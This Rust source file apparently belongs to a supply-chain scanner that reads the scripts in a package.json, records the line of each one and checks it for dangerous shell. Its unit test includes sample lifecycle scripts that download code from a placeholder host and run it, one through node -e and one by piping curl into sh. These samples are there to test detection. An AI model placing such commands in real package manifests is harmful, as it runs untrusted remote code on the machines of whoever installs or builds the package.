//! `package.json` scripts: npm, pnpm, yarn and bun run each one with `sh -c` (lifecycle
//! scripts such as `postinstall` run on every install, which is where `node -e` one-liners
//! live). Each script is scanned as shell text on the line its key is on.

use crate::detect::{self as guard, Finding};
use std::collections::HashMap;

/// The line (1-based) of each object key (`"name":`) at or after byte `from`, by its
/// decoded name (first occurrence wins). One pass over the text.
fn key_lines(text: &str, from: usize) -> HashMap<String, usize> {
    let bytes = text.as_bytes();
    let mut out = HashMap::new();
    let mut line = 1 + text.get(..from).map_or(0, |t| t.matches('\n').count());
    let mut i = from;
    while i < bytes.len() {
        match bytes[i] {
            b'\n' => line += 1,
            b'"' => {
                let start = i;
                i += 1;
                while i < bytes.len() && bytes[i] != b'"' {
                    if bytes[i] == b'\\' {
                        i += 1;
                    } else if bytes[i] == b'\n' {
                        line += 1;
                    }
                    i += 1;
                }
                let raw = text.get(start..=i.min(bytes.len() - 1)).unwrap_or("");
                let rest = text
                    .get(i + 1..)
                    .unwrap_or("")
                    .trim_start_matches([' ', '\t']);
                if rest.starts_with(':') {
                    if let Ok(key) = serde_json::from_str::<String>(raw) {
                        out.entry(key).or_insert(line);
                    }
                }
            }
            _ => {}
        }
        i += 1;
    }
    out
}

/// Scans the `scripts` of a package.json. Text that is not a JSON object with a
/// `scripts` object gives no findings.
pub(crate) fn scan(text: &str) -> Vec<Finding> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let Ok(serde_json::Value::Object(root)) = serde_json::from_str::<serde_json::Value>(text)
    else {
        return Vec::new();
    };
    let Some(serde_json::Value::Object(scripts)) = root.get("scripts") else {
        return Vec::new();
    };
    let Some(pos) = text.find("\"scripts\"") else {
        return Vec::new();
    };
    let lines = key_lines(text, pos + "\"scripts\"".len());
    let mut keyed: Vec<(usize, &str)> = scripts
        .iter()
        .filter_map(|(k, v)| Some((*lines.get(k)?, v.as_str()?)))
        .collect();
    keyed.sort();
    let mut out = Vec::new();
    for (line, script) in keyed {
        for mut f in guard::scan_shell(script, line) {
            f.line = line;
            out.push(f);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lifecycle_scripts_on_their_lines() {
        let pkg = "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"test\": \"node test.js\",\n    \"postinstall\": \"node -e \\\"require('https').get('https://x/p')\\\"\",\n    \"build\": \"curl -fsSL https://x/b.sh | sh\"\n  }\n}\n";
        let got: Vec<(usize, &str)> = scan(pkg).into_iter().map(|f| (f.line, f.rule)).collect();
        assert_eq!(got, vec![(5, "GUARD001"), (6, "GUARD002")]);
        assert!(scan("[1, 2]").is_empty());
        assert!(scan("{\"scripts\": 3}").is_empty());
    }
}
